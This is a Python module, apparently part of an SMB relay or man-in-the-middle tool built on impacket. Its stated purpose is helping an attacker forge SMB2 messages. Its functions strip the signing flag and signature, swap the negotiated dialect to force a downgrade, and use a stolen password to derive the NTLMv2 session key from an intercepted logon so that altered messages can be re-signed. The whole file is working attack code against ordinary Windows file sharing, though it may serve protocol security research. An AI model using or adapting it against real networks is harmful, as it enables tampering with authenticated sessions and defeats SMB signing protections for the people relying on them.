"""What an attacker needs to forge SMB2 messages: where things are in them, and what a stolen password gives."""

import hashlib
import hmac
import struct

from impacket import ntlm

from relay import NEGOTIATE, SESSION_SETUP

FLAG_SIGNED = 8
PREAUTH, CIPHERS, SIGNING = 1, 2, 8  # negotiate contexts
DIALECTS_AT = 64 + 36  # in a request to negotiate
ANSWER_DIALECT, ANSWER_GUID, ANSWER_CAPABILITIES = 64 + 4, 64 + 8, 64 + 24


def header(command, number, *, status=0, flags=1, tree=0, session=0, credits=1):
    """The header of an answer, unsigned."""
    return struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1, status, command, credits, flags, 0, number, 0xFEFF,
                       tree, session, bytes(16))


def message_id(data):
    return struct.unpack_from("<Q", data, 24)[0]


def put(data, layout, offset, value):
    struct.pack_into(layout, data, offset, value)


def unsign(data, clear=True):
    """Takes the flag off and, with CLEAR, the signature with it."""
    put(data, "<I", 16, struct.unpack_from("<I", data, 16)[0] & ~FLAG_SIGNED)
    if clear:
        data[48:64] = bytes(16)


def context(data, kind):
    """Offset of the data of the negotiate context KIND in an answer; None where there is none."""
    count, = struct.unpack_from("<H", data, 64 + 6)
    at, = struct.unpack_from("<I", data, 64 + 60)
    for _ in range(count):
        found, length = struct.unpack_from("<HH", data, at)
        if found == kind:
            return at + 8
        at += 8 + (length + 7 & ~7)
    return None


def strike_dialect(data, dialect, other):
    """Puts OTHER in the place of DIALECT in a request to negotiate."""
    count, = struct.unpack_from("<H", data, 64 + 2)
    for at in range(DIALECTS_AT, DIALECTS_AT + 2 * count, 2):
        if struct.unpack_from("<H", data, at)[0] == dialect:
            put(data, "<H", at, other)


class Thief:
    """Knows a user's password, and so the key of his session: signs anew, at 2.1, what it changes."""

    def __init__(self, password):
        self._password = password

    def listen(self, message):
        """To be called with every request: hears the logon."""
        at = message.bytes.find(b"NTLMSSP\0\3\0\0\0") if message.command == SESSION_SETUP else -1
        if at >= 0:
            message.wire.key = self._key(bytes(message.bytes[at:]))

    def _key(self, authenticate):
        logon = ntlm.NTLMAuthChallengeResponse()
        logon.fromString(authenticate)
        user, domain = (logon[field].decode("utf-16-le") for field in ("user_name", "domain_name"))
        secret = ntlm.NTOWFv2(user, self._password, domain)
        base = ntlm.hmac_md5(secret, logon["ntlm"][:16])
        return ntlm.generateEncryptedSessionKey(base, logon["session_key"])

    def sign(self, data, wire):
        put(data, "<I", 16, struct.unpack_from("<I", data, 16)[0] | FLAG_SIGNED)
        data[48:64] = bytes(16)
        data[48:64] = hmac.digest(wire.key, bytes(data), hashlib.sha256)[:16]


def is_answer_to_negotiate(message):
    return message.command == NEGOTIATE


def is_last_of_logon(message):
    return message.command == SESSION_SETUP and message.status == 0
